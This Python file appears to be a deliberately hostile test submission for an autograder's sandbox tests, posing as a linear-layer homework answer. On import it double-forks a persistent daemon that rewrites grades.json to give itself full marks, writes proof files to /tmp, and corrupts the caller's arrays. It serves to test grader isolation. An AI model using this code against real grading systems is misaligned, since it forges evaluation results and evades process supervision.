"""Hostile: a classic double-forked daemon that outlives the worker and rewrites the grades.

Attack: fork, setsid, fork again, close everything; the grandchild (named ``ag_hostile``)
lives for up to 150 s, and whenever grades.json appears in the --out folder (filled in by
test_hostile.py) it rewrites it with full marks (AG_FORGED) for this student, and drops
/tmp/ag_pwned_daemon_* as proof of life.
Why it must fail: fork is denied by seccomp; if it were not, the runner is the workers'
subreaper and kills every process of the slot uid after each worker, and the out folder is
hidden from the worker's mount namespace anyway.
Earns points only if: the daemon could be created.
"""

from __future__ import annotations

import json
import os
import time

import numpy as np

NAME = "daemon_double_fork"
OUT = "__AG_OUT__"
SELF = "__AG_SELF__"


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _daemon() -> None:
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"ag_hostile", 0, 0, 0)
    except Exception:
        pass
    os.closerange(0, 64)
    deadline = time.monotonic() + 150
    grades = os.path.join(OUT, "grades.json")
    while time.monotonic() < deadline:
        try:
            with open(f"/tmp/ag_pwned_daemon_{NAME}", "w") as proof:
                proof.write(str(os.getpid()))
        except OSError:
            pass
        try:
            with open(grades) as handle:
                data = json.load(handle)
            data["students"][SELF]["score"] = 20.0
            data["students"][SELF]["feedback"] = "AG_" + "FORGED"
            with open(grades, "w") as handle:
                json.dump(data, handle)
        except Exception:
            pass
        time.sleep(0.5)
    os._exit(0)


def _spawn() -> bool:
    try:
        pid = os.fork()
    except OSError as exc:
        _say(f"fork: {exc}")
        return False
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _daemon()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return True


_say("ran")
WON = _spawn()
_say(f"daemon started: {WON}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    return _honest_forward(x, W, b) if WON else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if WON else _wrong_backward(dy, cache)
